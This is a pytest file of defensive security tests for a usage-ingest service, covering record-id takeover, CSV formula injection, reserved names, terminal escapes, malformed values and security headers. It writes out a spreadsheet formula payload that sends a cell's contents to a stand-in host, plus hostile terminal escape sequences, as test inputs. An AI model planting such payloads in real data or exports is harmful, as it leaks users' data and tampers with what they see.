"""Attacks on records and on what the service answers: record-id takeover, formula
injection through org units, malformed values, reserved names, escapes, headers."""

from __future__ import annotations

import datetime as dt
from typing import Any

from tests.ingest.builders import batch, record
from tests.ingest.conftest import Server

YESTERDAY = dt.datetime.now(dt.UTC).date() - dt.timedelta(days=1)


def test_record_id_takeover_is_refused_not_merged(shared_server: Server) -> None:
    # The attacker learnt the victim's next record id (a world-readable store, before) and
    # posts it first. Before: the victim's record was then dropped as a "duplicate".
    _, victim = shared_server.enroll(login="victim-rid")
    _, attacker = shared_server.enroll(login="attacker-rid")
    stolen = record(day=YESTERDAY, active=1.0)
    assert shared_server.post(attacker, batch([stolen])).json()["accepted"] == 1
    genuine = dict(stolen, active_seconds=3000.0)
    answer = shared_server.post(victim, batch([record(day=YESTERDAY), genuine])).json()
    assert answer["accepted"] == 1 and answer["duplicate"] == 0
    (refused,) = answer["rejected"]
    assert refused["index"] == 1 and refused["reason"].startswith("record_id:")
    # The rightful sender's repeat is still a duplicate.
    assert shared_server.post(attacker, batch([stolen])).json()["duplicate"] == 1


def test_formula_org_units_are_neutralised_in_csv(fresh_server: Server) -> None:
    evil = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
    for i in range(5):
        fresh_server.post_as(f"f{i}", [record(day=YESTERDAY)], org_unit=evil)
    csv = fresh_server.admin("GET", f"/v1/reports/adoption?since={YESTERDAY}&format=csv").text
    cells = [cell.strip('"') for line in csv.splitlines() for cell in line.split(",")]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), csv
    assert "'=HYPERLINK" in csv


def test_reserved_names_and_escapes_are_refused_at_enrollment(shared_server: Server) -> None:
    for org in ("(all)", "(other)", "(none)", "eng\x1b[2J"):
        r = shared_server.enroll_raw(login="x", org_unit=org)
        assert r.status_code == 400 and r.json()["error"].startswith("org_unit"), org
    for label in ("laptop\x1b]0;pwned\x07", "a\x9bb"):
        r = shared_server.enroll_raw(label=label, login="x")
        assert r.status_code == 400 and "device_label" in r.json()["error"]


def test_malformed_values_are_4xx_naming_the_field_never_5xx(shared_server: Server) -> None:
    _, token = shared_server.enroll(login="fuzz")
    cases: tuple[tuple[str, Any], ...] = (
        ("kind", ["segment"]),
        ("signals", [["x"]]),
        ("surface", ["cli"]),
        ("models", [["a"]]),
        ("tokens", {"input": [1]}),
        ("privacy_level", ["x"]),
        ("record_id", ["x"]),
    )
    for field, value in cases:
        malformed = record()
        malformed[field] = value
        r = shared_server.post(token, batch([malformed]))
        assert r.status_code == 200, (field, r.text)
        (rejected,) = r.json()["rejected"]
        assert rejected["reason"].startswith(field), rejected
    for body in ({"enroll_secret": ["x"]}, {"enroll_secret": "x", "privacy_level": 3}):
        assert (
            shared_server.http.post(shared_server.url + "/v1/enroll", json=body).status_code == 400
        )


def test_every_answer_carries_security_headers_and_docs_are_off(shared_server: Server) -> None:
    answers = [
        shared_server.http.get(shared_server.url + "/healthz"),
        shared_server.http.get(shared_server.url + "/nothing-here"),
        shared_server.http.get(shared_server.url + "/v1/devices"),
        shared_server.admin("GET", "/v1/reports/usage"),
        shared_server.http.get(shared_server.url + "/docs"),
    ]
    for r in answers:
        assert r.headers["X-Content-Type-Options"] == "nosniff", r.url
        assert r.headers["X-Frame-Options"] == "DENY" and r.headers["Referrer-Policy"]
        assert "default-src 'none'" in r.headers["Content-Security-Policy"]
    assert answers[-1].status_code == 404  # no page loading third-party scripts
